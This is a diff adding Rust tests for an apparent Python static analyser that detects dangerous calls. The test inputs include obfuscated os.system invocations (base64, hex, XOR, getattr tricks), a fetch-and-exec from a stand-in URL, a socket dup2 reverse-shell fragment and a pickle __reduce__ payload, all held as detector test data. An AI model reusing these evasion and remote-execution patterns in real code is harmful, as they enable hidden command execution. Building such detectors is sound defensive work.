@@ -1,1 +1,161 @@
-mod empty {}
+//! What is found in small programs, and that no input panics.
+
+use base::{
+    blob::Blob,
+    budget::Meter,
+    reason::Reason,
+    sink::{Collected, Sink},
+    stop::Stop,
+};
+
+fn read(source: &[u8]) -> (Vec<String>, Vec<String>, Result<(), Stop>) {
+    let mut collected = Collected::default();
+    let mut sink = Sink::new(&mut collected, Meter::unlimited(), false, "test.py");
+    let result = crate::read(&Blob::from_bytes(source.to_vec()), &mut sink);
+    let children = collected.children.iter().map(|child| String::from_utf8_lossy(&child.name).into_owned()).collect();
+    (collected.facts.iter().map(ToString::to_string).collect(), children, result)
+}
+
+/// `source` states a fact that holds all of `parts`.
+#[track_caller]
+fn states(source: &str, parts: &[&str]) {
+    let (facts, _, result) = read(source.as_bytes());
+    result.unwrap();
+    let found = facts.iter().any(|fact| parts.iter().all(|part| fact.contains(part)));
+    assert!(found, "{source}\nstates\n{}", facts.join("\n"));
+}
+
+const SYSTEM: &str = "call module=\"os\" name=\"system\"";
+
+#[test]
+fn names_are_followed() {
+    let at_import = [SYSTEM, "when=\"import\"", "'id'"];
+    for source in [
+        "import os\nos.system('id')",
+        "import os as o\no.system('id')",
+        "from os import system as run\nrun('id')",
+        "from os import *\nsystem('id')",
+        "import os\nx = os.system\nx('id')",
+        "import os\nclass A:\n    run = os.system\nA.run('id')",
+        "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()",
+        "import os\nclass A:\n    def go(self):\n        os.system('id')\nA().go()",
+        "import os\ndef f(c):\n    os.system(c)\nf('id')",
+        "import os\nrun = lambda c: os.system(c)\nrun('id')",
+        "import os\n[os.system(c) for c in ['id']]",
+        "import os\nlist(map(os.system, ['id']))",
+        "import os\ndef f(x=os.system('id')): pass",
+        "import os\ndef f(x: os.system('id')): pass",
+        "import os\n@(lambda f: os.system('id'))\ndef f(): pass",
+        "getattr(__import__('o' + 's'), 'sys'[:3] + 'tem')('id')",
+        "__import__('os').__dict__['sys' 'tem']('id')",
+        "import importlib\nimportlib.import_module('os').system('id')",
+        "import sys, os\nsys.modules['os'].system('id')",
+        "import os\nf\"{os.system('id')}\"",
+        "import os\nif (x := os.system):\n    pass\nx('id')",
+        "import os, atexit\ndef f():\n    os.system('id')\natexit.register(f)",
+    ] {
+        states(source, &at_import);
+    }
+}
+
+#[test]
+fn when_it_runs_is_told() {
+    states("import os\ndef f():\n    os.system('id')", &[SYSTEM, "when=\"called\"", "[f]"]);
+    states(
+        "import os\nif os.name == 'nt':\n    os.system('id')",
+        &[SYSTEM, "when=\"conditional\"", "[if os.name == 'nt']"],
+    );
+    states("import os\nif __name__ == '__main__':\n    os.system('id')", &[SYSTEM, "when=\"called\""]);
+    states("import os\nif True:\n    os.system('id')", &[SYSTEM, "when=\"import\""]);
+    states("import os\ntry:\n    pass\nexcept OSError:\n    os.system('id')", &[SYSTEM, "when=\"conditional\""]);
+    states(
+        "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)",
+        &[SYSTEM, "how=\"deferred\"", "when=\"use\""],
+    );
+}
+
+#[test]
+fn constants_are_folded() {
+    for source in [
+        "import os\nos.system('i' + 'd')",
+        "import os\nos.system('di'[::-1])",
+        "import os\nos.system(''.join(chr(c) for c in [105, 100]))",
+        "import os, base64\nos.system(base64.b64decode('aWQ=').decode())",
+        "import os\nx = 'd'\nos.system(f'i{x}')",
+        "import os\nos.system('%s%s' % ('i', 'd'))",
+        "import os\nos.system(bytes.fromhex('6964').decode())",
+        "import os\ns = ''\nfor c in [104, 101]:\n    s += chr(c ^ 1)\nos.system(s)",
+        "import os\ndef d(t):\n    out = ''\n    for c in t:\n        out += chr(ord(c) ^ 1)\n    return out\nos.system(d('he'))",
+        "import os\nparts = []\nparts.append('i')\nparts.append('d')\nos.system(''.join(parts))",
+    ] {
+        states(source, &[SYSTEM, "'id'"]);
+    }
+}
+
+#[test]
+fn where_an_argument_comes_from_stays_visible() {
+    states(
+        "import urllib.request as u\ndef f():\n    code = u.urlopen('http://x').read()\n    exec(code.decode())",
+        &["name=\"exec\"", "urllib.request.urlopen('http://x').read().decode()"],
+    );
+    states("import base64\nexec(base64.b64decode('eD0xMg=='))", &["name=\"exec\"", "base64.b64decode('eD0xMg==')"]);
+    states(
+        "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
+        &["name=\"dup2\"", "socket.socket().fileno()"],
+    );
+}
+
+#[test]
+fn code_for_an_interpreter_is_given_back() {
+    let (_, children, _) = read(b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\neval('a.b')");
+    assert_eq!(children, ["exec-argument.py"]);
+}
+
+#[test]
+fn python_2_and_broken_files_are_read_as_far_as_they_go() {
+    states("import os\nprint 'hello'\nos.system('id')", &[SYSTEM]);
+    states("exec \"import os; os.system('id')\"", &["name=\"exec\""]);
+    states("import os\nx = = 1\nos.system('id')\n", &[SYSTEM]);
+    states("x = (\n", &["flaw id=\"syntax-error\""]);
+}
+
+#[test]
+fn prose_is_no_program() {
+    let mut collected = Collected::default();
+    let mut sink = Sink::new(&mut collected, Meter::unlimited(), true, "notes");
+    let text = b"To import the model, open (or eval) it first. import is easy!\n".to_vec();
+    let _ = crate::read(&Blob::from_bytes(text), &mut sink);
+    assert!(!sink.passed());
+}
+
+#[test]
+fn what_is_too_deep_or_too_large_is_refused() {
+    let depth = Err(Stop::Limit(Reason::Depth));
+    for (open, close) in [
+        ("(", ")"),
+        ("[", "]"),
+        ("f(", ")"),
+        ("lambda x, y: ", ""),
+        ("not ", ""),
+        ("-", ""),
+        ("1 if x else ", ""),
+        ("f'{", "}'"),
+    ] {
+        let source = format!("{}x{}", open.repeat(20_000), close.repeat(20_000));
+        assert_eq!(read(source.as_bytes()).2, depth, "{open}");
+    }
+    assert_eq!(read("a.".repeat(20_000).as_bytes()).2, depth);
+    assert_eq!(read(format!("x{}", "()".repeat(20_000)).as_bytes()).2, depth);
+    assert_eq!(read(&vec![b'#'; 9 << 20]).2, Err(Stop::Limit(Reason::Memory)));
+    // As deep as is allowed is read to its end.
+    assert_eq!(read(format!("x = {}", "1 + ".repeat(2_900) + "1").as_bytes()).2, Ok(()));
+    assert_eq!(read(format!("{}x{}", "(".repeat(180), ")".repeat(180)).as_bytes()).2, Ok(()));
+}
+
+#[test]
+fn no_prefix_panics() {
+    let source = include_str!("../testdata/mixed.py").as_bytes();
+    for end in 0..=source.len() {
+        let _ = read(&source[..end]);
+    }
+}
